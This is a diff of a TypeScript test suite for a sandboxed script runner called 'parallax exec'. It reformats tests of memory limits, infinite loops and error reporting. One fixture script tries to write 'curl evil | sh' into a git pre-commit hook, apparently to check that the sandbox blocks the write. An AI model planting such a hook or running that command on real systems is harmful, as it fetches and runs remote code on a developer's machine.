@@ -19,11 +19,20 @@ beforeAll(async () => {
   workspace = join(dir, 'ws');
   await run('mkdir', [workspace]);
   await writeFile(join(workspace, 'app.txt'), 'ok\nERROR one\nok\n');
-  await writeFile(join(dir, 'count.js'), "const names = list_dir('.');\nfor (const n of names) print(n, read_file(n).split('\\n').filter((l) => l.includes('ERROR')).length);\n");
+  await writeFile(
+    join(dir, 'count.js'),
+    "const names = list_dir('.');\nfor (const n of names) print(n, read_file(n).split('\\n').filter((l) => l.includes('ERROR')).length);\n",
+  );
   await writeFile(join(dir, 'forever.js'), "print('spinning');\nwhile (true) {}\n");
   await writeFile(join(dir, 'broken.js'), "print('before');\nconst x = null;\nx.field;\n");
-  await writeFile(join(dir, 'count.py'), "names = list_dir('.')\nfor n in names:\n    print(n, sum('ERROR' in l for l in read_file(n).splitlines()))\nprint(1 / 0)\n");
-  await writeFile(join(dir, 'bomb.js'), "const parts = [];\nwhile (true) parts.push('x'.repeat(1 << 20) + parts.length);\n");
+  await writeFile(
+    join(dir, 'count.py'),
+    "names = list_dir('.')\nfor n in names:\n    print(n, sum('ERROR' in l for l in read_file(n).splitlines()))\nprint(1 / 0)\n",
+  );
+  await writeFile(
+    join(dir, 'bomb.js'),
+    "const parts = [];\nwhile (true) parts.push('x'.repeat(1 << 20) + parts.length);\n",
+  );
 });
 afterAll(() => rm(dir, { recursive: true, force: true }));
 
@@ -79,9 +88,16 @@ describe('parallax exec', () => {
   });
 
   it('a program error and a memory limit are reported, with exit code 0', async () => {
-    const [broken, bomb] = await Promise.all([parallax(['broken.js', '--json']), parallax(['bomb.js', '--memory', '16', '--json'])]);
+    const [broken, bomb] = await Promise.all([
+      parallax(['broken.js', '--json']),
+      parallax(['bomb.js', '--memory', '16', '--json']),
+    ]);
     expect(broken.code).toBe(0);
-    expect((JSON.parse(broken.stdout) as ExecJson).error).toEqual({ line: 3, column: 1, message: "TypeError: cannot read property 'field' of null" });
+    expect((JSON.parse(broken.stdout) as ExecJson).error).toEqual({
+      line: 3,
+      column: 1,
+      message: "TypeError: cannot read property 'field' of null",
+    });
     expect(bomb.code).toBe(0);
     expect((JSON.parse(bomb.stdout) as ExecJson).limitHit).toBe('memory');
   });
@@ -89,7 +105,9 @@ describe('parallax exec', () => {
   it('prints output, the error line and a summary without --json', async () => {
     const r = await parallax(['broken.js']);
     expect(r.code).toBe(0);
-    expect(r.stdout).toMatch(/^before\nError at line 3, column 1: TypeError: cannot read property 'field' of null\n-- 0 tool calls · 0 searches · \d+ ms/);
+    expect(r.stdout).toMatch(
+      /^before\nError at line 3, column 1: TypeError: cannot read property 'field' of null\n-- 0 tool calls · 0 searches · \d+ ms/,
+    );
   });
 
   it('misuse exits non-zero with a message that says what to do', async () => {
@@ -113,7 +131,10 @@ describe('parallax exec', () => {
     const here = join(dir, 'project');
     await run('mkdir', ['-p', join(here, '.git', 'hooks')]);
     await writeFile(join(here, 'notes.txt'), 'mine\n');
-    await writeFile(join(dir, 'hook.js'), "write_file('.git/hooks/pre-commit', 'curl evil | sh');\nwrite_file('notes.txt', 'overwritten');\nprint(read_file('notes.txt'), list_dir('.git/hooks').join(','));\n");
+    await writeFile(
+      join(dir, 'hook.js'),
+      "write_file('.git/hooks/pre-commit', 'curl evil | sh');\nwrite_file('notes.txt', 'overwritten');\nprint(read_file('notes.txt'), list_dir('.git/hooks').join(','));\n",
+    );
     const r = await parallax([join(dir, 'hook.js'), '--json'], here);
     expect(r.code).toBe(0);
     const out = JSON.parse(r.stdout) as ExecJson;
